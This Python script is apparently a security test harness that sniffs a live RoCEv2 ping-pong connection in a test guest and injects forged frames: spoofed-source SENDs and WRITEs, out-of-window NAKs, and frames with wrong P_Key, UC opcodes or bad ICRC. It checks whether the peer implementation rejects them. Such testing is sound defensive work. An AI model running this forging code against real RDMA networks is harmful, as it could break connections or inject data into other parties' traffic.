#!/usr/bin/env python3
"""An attacker on the segment, run inside an rxe-peer guest (python3's standard library only), against a live RC
connection between this guest's ibv_rc_pingpong (rdma_rxe) and a uroce peer.

usage: rxe_attacker.py --victim IP --dir DIR [--iface eth0] [--timeout S] -- PINGPONG_COMMAND...

Runs PINGPONG_COMMAND (the real ibv_rc_pingpong client) as its child, its output in DIR/pingpong.log, and sniffs
its RoCEv2 frames on the interface (an AF_PACKET socket sees both directions: they are this host's own traffic)
to learn the victim's MAC and QPN, the UDP source port and the PSNs. It checks its ICRC against rxe's own frames
before it forges anything, then injects towards the victim, each forgery timed on a frame of the ping-pong so
that its PSN is the one that would do harm:
  1. NAKs (remote access error) from this guest's address: one at the PSN rxe has just acknowledged (the
     victim's next send PSN - 1), and pairs at x and x ^ 2^23, one of which is "before" any PSN;
  2. a SEND ONLY and a WRITE ONLY at the victim's expected PSN from a spoofed source (198.18.0.99, written in
     the frame only: no address is configured or contacted);
  3. a SEND ONLY over IPv6 (fd00::/8 addresses, in the frame only) at the expected PSN;
  4. SEND ONLYs at the expected PSN from this guest's address with a wrong P_Key, with a UC opcode, and with a
     bad ICRC.
A victim that honoured any of them would fail the connection or take a SEND it must not (a data error).
The attacker holds the ping-pong still (SIGSTOP) whenever it is not waiting for one of its frames: the attack
then takes a few dozen of its iterations whatever the machine's speed, and a forged request gets to the victim
before rxe's own request with the same PSN (an attacker faster than the peer would need no help; the victim
sees the same frames). A forged request counts as at the expected PSN only if rxe's request with that PSN left
after it; one that lost the race anyway (a duplicate for the victim) is sent again, up to a few times.
Once the ping-pong has gone on past the last forgery, the attacker writes DIR/paused, so the host can read the
victim's counters while nothing moves, waits for DIR/resume, lets the ping-pong go on, and waits for its end.

Writes DIR/forged.hex (every injected frame, one per line, so the host can tell them from the real peers'
frames in a capture), DIR/injected.json (how many of each kind, and how many requests were at the expected
PSN), DIR/attacker.pid (SIGTERM ends the attacker and its ping-pong) and, last, DIR/finished. Exit status 0
only if every forgery went out, the ping-pong went on after them, and it exited 0.
"""
import argparse
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time
import zlib

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
ROCE_PORT = 4791
SEND_ONLY, WRITE_ONLY, ACKNOWLEDGE, UC_SEND_ONLY = 0x04, 0x0A, 0x11, 0x24
NAK_REMOTE_ACCESS_ERROR = 0x62
REQUESTS = set(range(0x00, 0x0D)) | {0x13, 0x14, 0x16, 0x17}  # RC request opcodes
SPOOFED_IPV4 = socket.inet_aton("198.18.0.99")
IPV6_SRC = socket.inet_pton(socket.AF_INET6, "fd00::198:18:0:2")
IPV6_DST = socket.inet_pton(socket.AF_INET6, "fd00::198:18:0:100")
WAIT = 60  # seconds any step may wait for the ping-pong's next frame: generous, it moves every few ms
VERIFIED_FRAMES = 20  # rxe frames whose ICRC must agree with this script's before it forges one
ATTEMPTS = 5  # tries per forged request to get it ahead of rxe's own request with the same PSN

# rocev2.md §3.4 (c): a UC SEND ONLY over IPv6 whose ICRC two implementations agree on. This guest's rxe talks
# IPv4 only, so this vector is what vouches for the IPv6 masks.
IPV6_VECTOR = bytes.fromhex(
    "248a07a8fa22248a07a8fa2286dd" "6e21face002c11ff"
    "20220000000000000000000000001023" "20230000000000000000000000001024"
    "c00012b7002ce7c5" "2460ffff000000d300cf1710" "4630818be28935d90e9a95505401be885e500000"
    "3e5b743b")


def newer(psn, than):
    """Whether `psn` comes after `than` in 24-bit PSN order (anything comes after None)."""
    return than is None or 0 < (psn - than) & 0xFFFFFF < 0x800000


def log(msg):
    print(f"[attacker {time.strftime('%H:%M:%S')}] {msg}", flush=True)


def icrc(l3, udp_onwards):
    """RoCEv2 ICRC (rocev2.md §3.1): CRC-32 over 8 bytes of ones, the IP header, UDP header, BTH and the rest up
    to the ICRC, with the fields routers may change set to ones: IPv4 TOS, TTL and checksum; IPv6 traffic class,
    flow label and hop limit; the UDP checksum; BTH byte 4."""
    l3 = bytearray(l3)
    if l3[0] >> 4 == 4:
        l3[1] = l3[8] = 0xFF
        l3[10:12] = b"\xff\xff"
    else:
        l3[0:4] = b"\x6f\xff\xff\xff"
        l3[7] = 0xFF
    rest = bytearray(udp_onwards)
    rest[6:8] = b"\xff\xff"
    rest[12] = 0xFF
    return zlib.crc32(b"\xff" * 8 + bytes(l3) + bytes(rest))


def checksum(data):
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame_icrc_ok(frame):
    """Whether a whole Ethernet frame's last four bytes are its ICRC (little-endian on the wire, §3.2)."""
    l3_len = 20 if frame[12:14] == b"\x08\x00" else 40
    l3, rest = frame[14:14 + l3_len], frame[14 + l3_len:-4]
    return struct.unpack("<I", frame[-4:])[0] == icrc(l3, rest)


class Peer:
    """What the sniffer has learned about the connection."""
    my_mac = my_ip = victim_mac = None
    sport = victim_qpn = my_qpn = None
    ttl, tos, msn = 64, 0, 0
    my_psn = None       # PSN of rxe's latest request to the victim
    acked = None        # PSN of rxe's latest ACK of a victim's request
    victim_psn = None   # PSN of the victim's latest request
    my_requests = victim_requests = 0  # new PSNs seen, not counting retransmissions
    verified = 0        # rxe frames whose ICRC this script computed identically


class Attacker:
    def __init__(self, args, child):
        self.args, self.child = args, child
        self.victim_ip = socket.inet_aton(args.victim)
        # Protocol 0: a socket that only sends.
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.tx.bind((args.iface, 0))
        self.rx = None
        self.peer = Peer()
        self.injected = {}
        self.forged = open(os.path.join(args.dir, "forged.hex"), "w")
        self.ident = int.from_bytes(os.urandom(2), "big")
        self.own = set()  # the frames this script sent, which the sniffing socket sees too

    def close(self):
        for s in (self.tx, self.rx):
            if s:
                s.close()
        self.forged.close()

    # --- sniffing ------------------------------------------------------------------------------------------------

    def listen(self):
        """A new sniffing socket: it holds only frames sent or received from now on, never one that a guest too
        busy to keep up left queued, with a stale PSN."""
        if self.rx:
            self.rx.close()
        self.rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.rx.bind((self.args.iface, 0))

    def wait_for(self, what, condition, afresh=True):
        """Lets the ping-pong run and reads the connection's frames until `condition(outgoing, frame, opcode,
        psn)` holds for one; holds the ping-pong still again and returns that frame. `afresh`: only frames from
        now on."""
        if afresh:
            self.listen()
        os.kill(self.child.pid, signal.SIGCONT)
        try:
            got = self.read_until(what, condition)
        finally:
            os.kill(self.child.pid, signal.SIGSTOP)
        self.catch_up()
        return got

    def catch_up(self):
        """Reads what is queued: a guest slower than the ping-pong may have let it go on for a few iterations
        before holding it, and what is known must be current."""
        self.rx.settimeout(0)
        while True:
            try:
                frame, addr = self.rx.recvfrom(65535)
            except BlockingIOError:
                return
            if frame not in self.own:
                self.learn(frame, addr[2] == PACKET_OUTGOING)

    def read_until(self, what, condition):
        deadline = time.monotonic() + WAIT
        while True:
            self.rx.settimeout(max(0.01, min(deadline - time.monotonic(), 1.0)))
            try:
                frame, addr = self.rx.recvfrom(65535)
            except socket.timeout:
                if self.child.poll() is not None:
                    raise SystemExit(f"the ping-pong exited (status {self.child.returncode}) while the attacker "
                                     f"waited for {what}")
                if time.monotonic() >= deadline:
                    raise SystemExit(f"no {what} within {WAIT} s: the ping-pong has stopped")
                continue
            if frame in self.own:
                continue
            got = self.learn(frame, addr[2] == PACKET_OUTGOING)
            if got and condition(*got):
                return got

    def learn(self, frame, outgoing):
        """(outgoing, frame, opcode, psn) for a RoCEv2/IPv4 frame between this guest and the victim, None for
        anything else."""
        if len(frame) < 14 + 20 + 8 + 12 + 4 or frame[12:14] != b"\x08\x00" or frame[14] != 0x45 or frame[23] != 17:
            return None
        if struct.unpack("!H", frame[36:38])[0] != ROCE_PORT:
            return None
        frame = frame[:14 + struct.unpack("!H", frame[16:18])[0]]  # without Ethernet padding
        src, dst = frame[26:30], frame[30:34]
        opcode, psn = frame[42], int.from_bytes(frame[51:54], "big")
        p = self.peer
        if outgoing and dst == self.victim_ip:
            # A few dozen are proof enough; checking every frame would slow a sniffer that shares one emulated
            # CPU with rxe and the ping-pong.
            if p.verified < 2 * VERIFIED_FRAMES:
                if not frame_icrc_ok(frame):
                    raise SystemExit(f"rxe's frame {frame.hex()} has another ICRC than this script computes")
                p.verified += 1
            p.my_mac, p.victim_mac, p.my_ip = frame[6:12], frame[0:6], src
            p.tos, p.ttl = frame[15], frame[22]
            p.sport = struct.unpack("!H", frame[34:36])[0]
            p.victim_qpn = int.from_bytes(frame[47:50], "big")
            if opcode in REQUESTS and newer(psn, p.my_psn):  # not a retransmission
                p.my_psn = psn
                p.my_requests += 1
            elif opcode == ACKNOWLEDGE and frame[54] >> 5 == 0 and newer(psn, p.acked):
                p.acked, p.msn = psn, int.from_bytes(frame[55:58], "big")
        elif not outgoing and src == self.victim_ip:
            p.my_qpn = int.from_bytes(frame[47:50], "big")
            if opcode in REQUESTS and newer(psn, p.victim_psn):
                p.victim_psn = psn
                p.victim_requests += 1
        else:
            return None
        return outgoing, frame, opcode, psn

    def next_request(self):
        """Lets the ping-pong run until rxe sends its next request to the victim."""
        self.wait_for("request from rxe", lambda out, f, op, psn: out and op in REQUESTS)

    # --- forging -------------------------------------------------------------------------------------------------

    def frame(self, opcode, psn, ext=b"", payload=b"", src=None, ipv6=False, pkey=0xFFFF, ackreq=True,
              bad_icrc=False):
        """A RoCEv2 frame from this guest's MAC to the victim's MAC and QPN, with rxe's UDP source port, TOS
        and TTL."""
        p = self.peer
        pad = -len(payload) % 4
        bth = struct.pack("!BBHB3sB3s", opcode, pad << 4, pkey, 0, p.victim_qpn.to_bytes(3, "big"),
                          0x80 if ackreq else 0, psn.to_bytes(3, "big"))
        body = bth + ext + payload + bytes(pad)
        udp_length = 8 + len(body) + 4
        udp = struct.pack("!HHHH", p.sport, ROCE_PORT, udp_length, 0)
        if ipv6:
            l3 = struct.pack("!IHBB16s16s", (6 << 28) | (p.tos << 20), udp_length, 17, p.ttl, IPV6_SRC, IPV6_DST)
        else:
            self.ident = (self.ident + 1) & 0xFFFF
            l3 = struct.pack("!BBHHHBBH4s4s", 0x45, p.tos, 20 + udp_length, self.ident, 0x4000, p.ttl, 17, 0,
                             src or p.my_ip, self.victim_ip)
            l3 = l3[:10] + struct.pack("!H", checksum(l3)) + l3[12:]
        crc = icrc(l3, udp + body) ^ (0xFFFFFFFF if bad_icrc else 0)
        tail = body + struct.pack("<I", crc)
        if ipv6:  # IPv6 forbids a zero UDP checksum (RFC 8200 §8.1); the ICRC does not cover it
            pseudo = IPV6_SRC + IPV6_DST + struct.pack("!IxxxB", udp_length, 17)
            udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp + tail) or 0xFFFF)
        ethertype = b"\x86\xdd" if ipv6 else b"\x08\x00"
        return p.victim_mac + p.my_mac + ethertype + l3 + udp + tail

    def inject(self, kind, frame, note):
        """Sends a forged frame; from then on the sniffer sees only frames sent or received after it."""
        self.tx.send(frame)
        self.listen()
        self.own.add(frame)
        self.forged.write(frame.hex() + "\n")
        self.forged.flush()
        self.injected[kind] = self.injected.get(kind, 0) + 1
        log(f"  injected {kind}: {note}")

    # --- the attack ----------------------------------------------------------------------------------------------

    def learn_connection(self):
        p = self.peer
        log(f"sniffing {self.args.iface} for the ping-pong with {self.args.victim}")
        self.wait_for(f"requests both ways and {VERIFIED_FRAMES} frames from rxe",
                      lambda *_: p.my_requests and p.victim_requests and p.verified >= VERIFIED_FRAMES)
        log(f"connection: victim MAC {p.victim_mac.hex(':')} QPN 0x{p.victim_qpn:06x}, rxe QPN 0x{p.my_qpn:06x}, "
            f"UDP sport 0x{p.sport:04x}, TTL {p.ttl}; ICRC agrees with rxe on {p.verified} frames")

    def payload(self):
        """A SEND's payload as long as the ping-pong's, of bytes it never carries (so a victim that took one
        would see a data error)."""
        _, f, _, _ = self.wait_for("SEND ONLY from rxe", lambda out, f, op, psn: out and op == SEND_ONLY)
        udp_length = struct.unpack("!H", f[38:40])[0]
        pad = (f[43] >> 4) & 3
        return b"\xee" * (udp_length - 8 - 12 - pad - 4)

    def naks(self):
        # rxe's latest ACK of a victim's request: that PSN is acknowledged, so it is outside the victim's window
        # [oldest unacked, next) whatever the victim sends meanwhile (the ACK is ahead of the NAK on the wire),
        # and a victim that took any NAK before its next send PSN would fail the connection.
        self.wait_for("ACK from rxe", lambda out, f, op, psn: out and op == ACKNOWLEDGE and f[54] >> 5 == 0)
        acked = self.peer.acked
        aeth = struct.pack("!B3s", NAK_REMOTE_ACCESS_ERROR, self.peer.msn.to_bytes(3, "big"))
        self.inject("nak", self.frame(ACKNOWLEDGE, acked, aeth, ackreq=False),
                    f"NAK 0x62 (remote access) at PSN 0x{acked:06x}, which rxe has just acknowledged (the victim's "
                    "next send PSN - 1 when rxe sent that ACK)")
        for x in ((acked + (1 << 22)) & 0xFFFFFF, (acked + 0x123456) & 0xFFFFFF, (acked - 5000) & 0xFFFFFF):
            for psn in (x, x ^ 0x800000):
                self.inject("nak", self.frame(ACKNOWLEDGE, psn, aeth, ackreq=False),
                            f"NAK 0x62 (remote access) at PSN 0x{psn:06x}")

    def requests(self, payload):
        reth = struct.pack("!QII", 0x1000, 0x12345678, len(payload))
        attacks = (
            ("spoofed_source", dict(opcode=SEND_ONLY, payload=payload, src=SPOOFED_IPV4), "SEND ONLY from 198.18.0.99"),
            ("spoofed_source", dict(opcode=WRITE_ONLY, ext=reth, payload=payload, src=SPOOFED_IPV4),
             "WRITE ONLY from 198.18.0.99"),
            ("ipv6", dict(opcode=SEND_ONLY, payload=payload, ipv6=True), "SEND ONLY over IPv6, fd00:: addresses"),
            ("pkey", dict(opcode=SEND_ONLY, payload=payload, pkey=0x8001), "SEND ONLY with P_Key 0x8001"),
            ("uc_opcode", dict(opcode=UC_SEND_ONLY, payload=payload), "UC SEND ONLY (opcode 0x24)"),
            ("bad_icrc", dict(opcode=SEND_ONLY, payload=payload, bad_icrc=True), "SEND ONLY with its ICRC inverted"),
        )
        for kind, fields, note in attacks:
            for _ in range(ATTEMPTS):
                # Once rxe's request q has left, the victim expects q + 1 (SEND ONLYs take one PSN each), and the
                # ping-pong posts q + 1 only when the victim's echo of q is back: unless that happened before the
                # attacker held it still, the forgery is the victim's q + 1. The first request rxe sends after
                # the forgery tells: q + 1 if the forgery was first.
                self.next_request()
                psn = (self.peer.my_psn + 1) & 0xFFFFFF  # after rxe's latest request
                self.inject(kind, self.frame(psn=psn, **fields), f"{note} at the expected PSN 0x{psn:06x}")
                after = self.wait_for(  # rxe's first request since the forgery, retransmissions aside
                    "request from rxe", lambda out, f, op, x: out and op in REQUESTS and not newer(psn, x), False)[3]
                if after == psn:
                    self.injected["at_expected_psn"] = self.injected.get("at_expected_psn", 0) + 1
                    break
                log(f"    not ahead of rxe's own request 0x{psn:06x} (rxe sent 0x{after:06x} next): again")

    def confirm_progress(self, rounds=3):
        """The ping-pong goes on: both sides send new requests after the last forgery, and since the victim reads
        its frames in order, it has dealt with every forgery by then."""
        p = self.peer
        mine, victims = p.my_requests + rounds, p.victim_requests + rounds
        self.wait_for(f"{rounds} more requests each way",
                      lambda *_: p.my_requests >= mine and p.victim_requests >= victims)
        log(f"the ping-pong goes on: rxe request PSN 0x{p.my_psn:06x}, victim request PSN 0x{p.victim_psn:06x}")

    def run(self):
        self.learn_connection()
        payload = self.payload()
        log(f"forging (SEND payloads of {len(payload)} bytes, as the ping-pong's)")
        self.naks()
        self.confirm_progress()
        self.requests(payload)
        self.confirm_progress()
        with open(os.path.join(self.args.dir, "injected.json"), "w") as f:
            json.dump(self.injected, f)
        log(f"injected {self.injected}")


def pause_for_host(child, directory, timeout):
    """Holds the ping-pong still while the host reads the victim's counters; lets it go on once DIR/resume
    exists."""
    os.kill(child.pid, signal.SIGSTOP)
    try:
        open(os.path.join(directory, "paused"), "w").close()
        log("ping-pong paused; waiting for the host's resume")
        deadline = time.monotonic() + timeout
        while not os.path.exists(os.path.join(directory, "resume")):
            if time.monotonic() > deadline:
                raise SystemExit(f"no resume from the host within {timeout} s")
            time.sleep(0.1)
    finally:
        os.kill(child.pid, signal.SIGCONT)
    log("ping-pong resumed")


def run(args):
    with open(os.path.join(args.dir, "pingpong.log"), "w") as out:
        child = subprocess.Popen(args.command, stdout=out, stderr=subprocess.STDOUT)
        attacker = Attacker(args, child)
        try:
            attacker.run()
            pause_for_host(child, args.dir, WAIT * 2)
            attacked = True
        except SystemExit as e:
            log(f"ATTACK FAILED: {e}")
            attacked = False
            os.kill(child.pid, signal.SIGCONT)
        attacker.close()
        try:
            # Once the attack is over the ping-pong has its whole time; if it stopped during the attack, it
            # will not end by itself (rxe's retry_cnt 7 retries forever).
            child.wait(timeout=args.timeout if attacked else 10)
        except subprocess.TimeoutExpired:
            log("the ping-pong did not end: killing it")
        finally:  # also when the host ends the attacker
            if child.poll() is None:
                child.kill()
            status = child.wait()
        log(f"ping-pong exit status {status}")
    return 0 if attacked and status == 0 else 1


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--victim", required=True, help="the victim's IPv4 address")
    ap.add_argument("--dir", required=True, help="where to write the logs and meet the host")
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--timeout", type=int, default=600, help="seconds the ping-pong may take after the attack")
    ap.add_argument("command", nargs="+", help="the ping-pong")
    args = ap.parse_args()
    # The host ends an interrupted run with SIGTERM: the ping-pong must go with the attacker.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("terminated"))
    with open(os.path.join(args.dir, "attacker.pid"), "w") as f:
        f.write(f"{os.getpid()}\n")
    try:
        if not frame_icrc_ok(IPV6_VECTOR):
            raise SystemExit("the ICRC of rocev2.md §3.4 (c) (IPv6) does not check out: not forging")
        return run(args)
    finally:
        open(os.path.join(args.dir, "finished"), "w").close()


if __name__ == "__main__":
    sys.exit(main())
